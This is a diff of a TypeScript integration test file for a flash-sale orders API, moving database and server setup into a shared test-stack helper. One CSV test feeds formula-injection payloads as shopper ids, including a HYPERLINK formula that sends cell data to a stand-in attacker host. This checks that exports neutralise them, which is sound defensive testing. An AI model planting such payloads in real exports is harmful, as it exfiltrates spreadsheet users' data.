@@ -7,10 +7,9 @@
  * field errors; and every sale's stats in one request, where a sale whose read fails is
  * reported on its own.
  */
-import { createRedis, type Redis } from "@flash-sale/node-common";
-import { PrivateRedis } from "./support/private-redis";
-import { createTestDatabase, type TestDatabase } from "./support/test-database";
-import { ControlPlane, TEST_ADMIN_TOKEN } from "./support/control-plane";
+import { TestStack } from "./support/test-stack";
+import { useStack } from "./support/use-stack";
+import { TEST_ADMIN_TOKEN } from "./support/control-plane";
 import { parseCsv } from "./support/csv";
 
 const SALE = "orders-api";
@@ -21,11 +20,6 @@ const TOTAL = 2345;
 const STATUSES = ["confirmed", "paid", "expired", "pending", "failed"] as const;
 /** Shopper ids are printable ASCII: commas and quotes included. */
 const ODD_USER = 'user,with "quotes"';
-
-let privateRedis: PrivateRedis;
-let redis: Redis;
-let db: TestDatabase;
-let cp: ControlPlane;
 
 interface OrderRow {
   orderId: string;
@@ -39,7 +33,7 @@ interface OrderRow {
 }
 
 async function get(path: string): Promise<{ status: number; headers: Headers; text: string; json: any }> {
-  const res = await fetch(cp.url + path, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
+  const res = await fetch(stack.controlPlane.url + path, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
   const text = await res.text();
   return { status: res.status, headers: res.headers, text, json: res.headers.get("content-type")?.includes("json") ? JSON.parse(text) : undefined };
 }
@@ -54,7 +48,7 @@ async function insertOrders(
   orders: { epoch: number; n: number; user: string; units: number; quantity: number; status: string; at: Date; price?: number }[],
 ): Promise<void> {
   const priced = orders.map((o) => ({ ...o, price: o.price ?? SALE_PRICE }));
-  await db.pool.query(
+  await stack.db.pool.query(
     `INSERT INTO orders (order_id, sale_id, order_no, epoch, user_id, user_units, quantity, status, accepted_at, status_changed_at, price, currency)
      SELECT $1 || '.' || e || '.' || n, $1, n, e, u, uu, q, s, a, CASE WHEN s IN ('paid', 'expired', 'failed') THEN a + interval '30 seconds' END, p, 'USD'
        FROM unnest($2::int[], $3::bigint[], $4::text[], $5::int[], $6::int[], $7::text[], $8::timestamptz[], $9::bigint[]) AS t(e, n, u, uu, q, s, a, p)`,
@@ -63,7 +57,7 @@ async function insertOrders(
 }
 
 async function pgOrders(saleId: string, where = "", params: unknown[] = []): Promise<OrderRow[]> {
-  const result = await db.pool.query(
+  const result = await stack.db.pool.query(
     `SELECT order_id, user_id, quantity, price, currency, status, accepted_at, status_changed_at FROM orders WHERE sale_id = $1 ${where} ORDER BY epoch, order_no`,
     [saleId, ...params],
   );
@@ -96,12 +90,8 @@ function asCsvRows(orders: OrderRow[]): string[][] {
   return orders.map((o) => [o.orderId, o.userId, String(o.quantity), String(o.price), o.currency, o.status, o.acceptedAt, o.paidAt ?? ""]);
 }
 
-beforeAll(async () => {
-  privateRedis = await PrivateRedis.start();
-  redis = createRedis(privateRedis.url(), "orders-test");
-  db = await createTestDatabase("control_plane_orders");
-  cp = await ControlPlane.start(db.pool, privateRedis.url());
-  for (const id of [SALE, OTHER]) await cp.createSale({ id, price: SALE_PRICE, stock: 10_000, perUserLimit: 2 });
+const stack = useStack(new TestStack({ name: "control_plane_orders", gateway: false }), async () => {
+  for (const id of [SALE, OTHER]) await stack.controlPlane.createSale({ id, price: SALE_PRICE, stock: 10_000, perUserLimit: 2 });
 
   const start = Date.parse("2030-01-01T12:00:00Z");
   await insertOrders(
@@ -115,13 +105,6 @@ beforeAll(async () => {
     }),
   );
   await insertOrders(OTHER, [{ epoch: 1, n: 1, user: "user-1", units: 1, quantity: 1, status: "confirmed", at: new Date(start) }]);
-});
-
-afterAll(async () => {
-  await cp?.stop();
-  redis?.disconnect();
-  await db?.close();
-  await privateRedis?.destroy();
 });
 
 test("pages of the default size cover every order of the sale exactly once, newest first", async () => {
@@ -147,7 +130,7 @@ test("the largest page is 500; orders accepted during a walk are not mixed in", 
     }
     expect([...first.json.orders, ...rest]).toEqual(before.reverse());
   } finally {
-    await db.pool.query("DELETE FROM orders WHERE user_id = 'late-shopper'");
+    await stack.db.pool.query("DELETE FROM orders WHERE user_id = 'late-shopper'");
   }
 });
 
@@ -235,7 +218,7 @@ test("the CSV takes the same filters", async () => {
 
 test("every sale's stats come in one request; a sale whose read fails is reported alone", async () => {
   const broken = "orders-api-broken";
-  await cp.createSale({ id: broken, stock: 5, perUserLimit: 2 });
+  await stack.controlPlane.createSale({ id: broken, stock: 5, perUserLimit: 2 });
   // Units over Postgres' integer: the stats read of this sale fails in Postgres itself.
   await insertOrders(broken, [1, 2].map((n) => ({ epoch: 1, n, user: "whale", units: n, quantity: 2_147_483_647, status: "confirmed", at: new Date() })));
 
@@ -252,7 +235,7 @@ test("every sale's stats come in one request; a sale whose read fails is reporte
 
 test("the CSV lets no cell start a formula (OWASP: =, +, -, @, tab, carriage return get a leading quote), quoted as RFC 4180 says", async () => {
   const sale = "orders-api-formulas";
-  await cp.createSale({ id: sale, price: SALE_PRICE, stock: 100, perUserLimit: 1 });
+  await stack.controlPlane.createSale({ id: sale, price: SALE_PRICE, stock: 100, perUserLimit: 1 });
   const users = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+x", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "plain=1", "a,=b"];
   await insertOrders(sale, users.map((user, i) => ({ epoch: 1, n: i + 1, user, units: 1, quantity: 1, status: "confirmed", at: new Date(Date.UTC(2030, 0, 1, 12, 0, i)) })));
 
